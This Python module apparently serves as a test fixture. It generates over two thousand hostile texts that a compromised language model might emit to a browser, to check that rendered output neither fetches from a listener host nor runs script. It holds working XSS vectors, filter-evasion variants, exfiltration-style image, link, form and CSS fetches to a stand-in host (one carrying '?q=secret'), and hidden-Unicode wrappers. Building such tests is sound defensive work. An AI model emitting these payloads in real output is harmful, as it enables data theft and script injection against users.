"""What a compromised model may say to a browser: links, pictures, scripts, styles, forms, refreshes, hidden letters."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RAN = "window.ran=(window.ran||0)+1"
"""What each script tries to do; a page on which it ran has the mark."""

_ADDRESSES = (
    "//{there}/x",
    "http://{there}/x",
    "HTTP://{there}/x?q=secret",
    "http:\\\\{there}\\x",
    "http://user:pw@{there}/x",
    "http://{there}/%0d%0aSet-Cookie:x=1",
    "\thttp://{there}/x",
)
_FETCHES = (
    '<img src="{url}">',
    "<img srcset='{url} 1x'>",
    '<img src=x onerror="fetch(`{url}`)">',
    '<svg><image href="{url}"/></svg>',
    '<svg><use href="{url}#a"/></svg>',
    '<link rel="stylesheet" href="{url}">',
    '<link rel=preload as=image href="{url}">',
    '<link rel=dns-prefetch href="{url}">',
    '<script src="{url}"></script>',
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<video poster="{url}" src="{url}" autoplay></video>',
    '<audio src="{url}" autoplay></audio>',
    '<input type=image src="{url}">',
    '<body background="{url}">',
    '<table background="{url}"><tr><td>x</table>',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<base href="{url}">',
    '<form action="{url}"><button autofocus>go</button></form>',
    "<style>@import '{url}';</style>",
    "<div style=\"background:url('{url}')\">x</div>",
    '<a href="{url}" ping="{url}">x</a>',
    "![x]({url})",
    "![x][r]\n\n[r]: {url}",
    "[x]({url})",
    "<{url}>",
    "{url}",
    '"><img src="{url}">',
    "'><img src='{url}'>",
    '--><img src="{url}">',
    '</textarea><img src="{url}">',
    '</title><img src="{url}">',
    '</script><img src="{url}">',
    ']]><img src="{url}">',
    "{{{{ '<img src={url}>' | safe }}}}",
)
_SCRIPTS = (
    "<script>{ran}</script>",
    "<script type=module>{ran}</script>",
    '<img src=x onerror="{ran}">',
    '<svg onload="{ran}">',
    "<svg><script>{ran}</script></svg>",
    '<svg><animate onbegin="{ran}" attributeName=x dur=1s>',
    '<math><mi xlink:href="javascript:{ran}">x</mi></math>',
    '<body onload="{ran}">',
    '<details open ontoggle="{ran}">x</details>',
    '<input autofocus onfocus="{ran}">',
    '<select autofocus onfocus="{ran}"></select>',
    '<marquee onstart="{ran}">x</marquee>',
    '<video><source onerror="{ran}"></video>',
    '<iframe srcdoc="<script>{ran}</script>"></iframe>',
    '<iframe src="javascript:{ran}"></iframe>',
    '<a href="javascript:{ran}" autofocus>x</a>',
    "[x](javascript:{ran})",
    '<a href="data:text/html,<script>{ran}</script>">x</a>',
    '<object data="data:text/html,<script>{ran}</script>"></object>',
    '<div style="animation-name:x" onanimationstart="{ran}">x</div>',
    '" onmouseover="{ran}" x="',
    "' autofocus onfocus='{ran}' x='",
    "{{{{ self.__init__.__globals__ }}}}{ran}",
    "{{% raw %}}<script>{ran}</script>{{% endraw %}}",
    "<scr<script>ipt>{ran}</scr</script>ipt>",
    "<ScRiPt/x>{ran}</sCrIpT>",
    "\u003cscript\u003e{ran}\u003c/script\u003e",
    "&lt;script&gt;{ran}&lt;/script&gt;",
    "<template><script>{ran}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={ran}>'>",
    "<textarea></textarea><script>{ran}</script>",
    "<xss contenteditable autofocus onfocus='{ran}'>x</xss>",
)
_WRAPPERS = (
    "{payload}",
    "Cut retries from 2.3% to 0.4% {payload} in May.",
    "\u202e{payload}\u202c",
    "a\u200b{payload}\u2060b",
    "\U000e0041{payload}\U000e007f",
    "```html\n{payload}\n```",
    "<!-- {payload} -->",
    "data: {payload}\n\nevent: done\ndata: {{}}\n",
)


def hostile_texts(there: str) -> Iterator[str]:
    """Over two thousand texts, each different; `there` is the host and port of a listener that must hear nothing."""
    for fetch, address in product(_FETCHES, _ADDRESSES):
        payload = fetch.format(url=address.format(there=there))
        yield from (w.format(payload=payload) for w in _WRAPPERS[:6])
    for script in _SCRIPTS:
        yield from (w.format(payload=script.format(ran=RAN)) for w in _WRAPPERS)
